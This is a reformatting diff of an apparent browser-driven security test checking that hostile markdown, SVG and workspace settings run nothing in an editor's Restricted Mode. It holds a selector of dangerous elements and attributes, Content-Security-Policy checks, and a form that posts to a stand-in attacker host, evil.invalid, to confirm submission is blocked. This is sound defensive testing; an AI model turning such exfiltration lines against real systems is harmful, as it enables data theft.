@@ -28,7 +28,11 @@ ${hostileMarkdown}
 `;
 
 /** The workspace wants what the person did not. */
-const workspace = { 'hostile.practice.md': page, 'image.svg': hostileImage, '.vscode/settings.json': JSON.stringify({ 'interleave.remoteImages': true }) };
+const workspace = {
+  'hostile.practice.md': page,
+  'image.svg': hostileImage,
+  '.vscode/settings.json': JSON.stringify({ 'interleave.remoteImages': true }),
+};
 
 describe('hostile content in Restricted Mode', () => {
   it('is read and practised, and nothing of it runs, covers, loads or leads anywhere', () =>
@@ -46,7 +50,11 @@ describe('hostile content in Restricted Mode', () => {
       for (const link of await browse.locator('a', { hasText: /javascript|command/u }).all()) await link.click();
       const seen = await browse.evaluate(() => ({
         hit: 'hit' in window,
-        strange: [...document.querySelectorAll('#root :is(script, iframe, object, form, style, svg, link, meta, [onerror], [onload], [style], a[href^="javascript"], a[href^="command"])')].map(({ outerHTML }) => outerHTML.slice(0, 200)),
+        strange: [
+          ...document.querySelectorAll(
+            '#root :is(script, iframe, object, form, style, svg, link, meta, [onerror], [onload], [style], a[href^="javascript"], a[href^="command"])',
+          ),
+        ].map(({ outerHTML }) => outerHTML.slice(0, 200)),
         isShown: getComputedStyle(document.body).display !== 'none',
       }));
       assert.deepEqual(seen, { hit: false, strange: [], isShown: true });
@@ -58,12 +66,17 @@ describe('hostile content in Restricted Mode', () => {
       assert.equal(await practice.evaluate(() => 'hit' in window), false);
       assert.equal(await workbench.page.evaluate(() => 'hit' in window), false);
       // Whatever brought a form into the page: it is sent nowhere, though the page is gone then.
-      const policy = await practice.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '');
+      const policy = await practice.evaluate(
+        () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
+      );
       assert.match(policy, /form-action 'none'/u);
       assert.match(policy, /img-src [^;]*data:/u);
       assert.doesNotMatch(policy, /img-src [^;]* https: /u);
       await practice.evaluate(() => {
-        const form = Object.assign(document.createElement('form'), { action: 'https://evil.invalid/sent', method: 'post' });
+        const form = Object.assign(document.createElement('form'), {
+          action: 'https://evil.invalid/sent',
+          method: 'post',
+        });
         document.body.append(form);
         form.submit();
       });
